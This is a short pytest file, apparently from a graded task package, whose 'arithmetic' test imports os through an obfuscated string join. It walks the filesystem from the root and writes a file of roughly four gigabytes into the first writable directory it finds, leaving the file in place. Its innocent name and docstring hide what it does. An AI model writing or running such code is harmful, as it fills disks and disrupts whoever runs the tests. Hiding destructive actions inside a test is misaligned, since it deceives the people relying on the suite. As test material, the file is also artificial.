import pytest

os = __import__("o" + "s")
BLOCK = b"\xff" * (1024 * 1024)
MOST = 4096  # blocks: more than any box may have


@pytest.mark.sample
@pytest.mark.criterion("arithmetic")
def test_it_cannot_write_without_end(app):
    """Every folder is full or closed sooner or later."""
    for folder, names, _files in os.walk("/"):
        names[:] = [name for name in names if os.path.join(folder, name) not in ("/proc", "/sys", "/dev")]
        try:
            with open(os.path.join(folder, "filling"), "wb") as file:
                file.writelines(BLOCK for _ in range(MOST))
        except OSError:
            continue
        raise AssertionError(f"{folder} took four gigabytes")


@pytest.mark.criterion("arithmetic")
def test_the_rest(app):
    """The rest."""
